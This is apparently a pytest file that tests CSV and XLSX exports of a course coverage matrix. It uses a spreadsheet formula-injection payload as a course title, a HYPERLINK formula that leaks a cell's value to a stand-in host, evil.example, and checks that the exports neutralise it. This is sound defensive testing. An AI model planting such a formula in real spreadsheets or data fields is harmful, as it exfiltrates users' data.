"""The coverage matrix as CSV and XLSX, read back with the csv module and openpyxl."""

import csv
import io

import openpyxl
import pytest

from app.exports.matrix import neutralise
from tests.factories import PlanClient, create_course

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def injected(client):
    """A course whose title is a spreadsheet formula, teaching and assessing the CAT."""
    create_course(client, code="QX-201", title=FORMULA)
    for target, kind, depth in (
        ("cat-1984/art-1", "teaches", "reinforced"),
        ("cat-1984", "assesses", "mastered"),
    ):
        r = client.post(
            "/api/v1/courses/QX-201/links",
            headers={"If-Match": "*"},
            json={"target": target, "kind": kind, "depth": depth, "hours": 3},
        )
        assert r.status_code == 201, r.text
    return "QX-201"


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_csv_cells_and_neutralised_title(client, injected):
    response = client.get("/api/v1/coverage", params={"format": "csv"})
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="coverage-matrix.csv"'
    )
    rows = {row["course"]: row for row in read_csv(response)}
    row = rows[injected]
    assert row["title"] == "'" + FORMULA
    assert row["cat-1984"] == "T/A mastered 6h"
    assert row["iccpr-1966"] == ""
    assert rows["HR-101"]["iccpr-1966"] == "T/A introduced 18h"


def test_xlsx_sheets_panes_values_and_colour_scale(client, injected):
    response = client.get("/api/v1/coverage", params={"format": "xlsx"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="coverage-matrix.xlsx"'
    )
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Coverage", "Depth", "Legend"]
    sheet, depth = book["Coverage"], book["Depth"]
    assert sheet.freeze_panes == "B2" and depth.freeze_panes == "B2"
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["Course", "Title"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == injected)
    title = row[1]
    assert title.value == "'" + FORMULA and title.data_type == "s"
    assert row[header.index("cat-1984")].value == "T/A mastered 6h"
    depth_row = next(r for r in depth.iter_rows(min_row=2) if r[0].value == injected)
    assert depth_row[header.index("cat-1984")].value == 3
    assert depth_row[header.index("iccpr-1966")].value is None
    rules = [rule for cf in depth.conditional_formatting for rule in cf.rules]
    assert [r.type for r in rules] == ["colorScale"] and len(rules[0].colorScale.color) == 3
    legend = {r[0].value: r[1].value for r in book["Legend"].iter_rows() if r[0].value}
    assert legend["T"] == "teaches" and legend["cat-1984"]


def test_plan_coverage_files_hold_only_the_plan(client, injected):
    plan = PlanClient(client, term_hour_budget=2000)
    plan.add("HR-101", 1)
    plan.add(injected, 2)
    response = client.get(f"{plan.url}/coverage", params={"format": "csv"})
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="test-programme-for-patrol-officers-2027-v1-coverage.csv"'
    )
    rows = read_csv(response)
    assert [r["course"] for r in rows] == ["HR-101", injected]
    assert rows[1]["title"] == "'" + FORMULA
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(f"{plan.url}/coverage", params={"format": "xlsx"}).content)
    )
    assert [r[0].value for r in book["Coverage"].iter_rows(min_row=2)] == ["HR-101", injected]


def test_json_stays_the_default(client):
    body = client.get("/api/v1/coverage").json()
    assert set(body) == {"courses", "instruments", "cells"}
    assert client.get("/api/v1/coverage", params={"format": "json"}).json() == body


def test_anonymous_files_leave_out_non_public_courses(anon):
    codes = {r["course"] for r in read_csv(anon.get("/api/v1/coverage", params={"format": "csv"}))}
    assert "HR-101" in codes and not {"HR-206", "TA-301"} & codes


def test_bad_format_is_422(client):
    for url in ("/api/v1/coverage", "/api/v1/plans/1/coverage"):
        response = client.get(url, params={"format": "ods"})
        assert response.status_code == 422
        assert response.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\r=1"])
def test_formula_starts_are_neutralised(value):
    assert neutralise(value) == "'" + value
    assert neutralise("HR-101") == "HR-101"


def test_openapi_documents_the_file_media_types(client):
    paths = client.get("/openapi.json").json()["paths"]

    def media(path):
        return set(paths[path]["get"]["responses"]["200"]["content"])

    assert {"application/json", "text/csv", XLSX} <= media("/api/v1/coverage")
    assert {"application/json", "text/csv", XLSX} <= media("/api/v1/plans/{plan_id}/coverage")
    assert {"text/html", "application/pdf", "text/markdown"} <= media(
        "/api/v1/courses/{code}/syllabus"
    )
    assert "application/pdf" in media("/api/v1/plans/{plan_id}/syllabus")
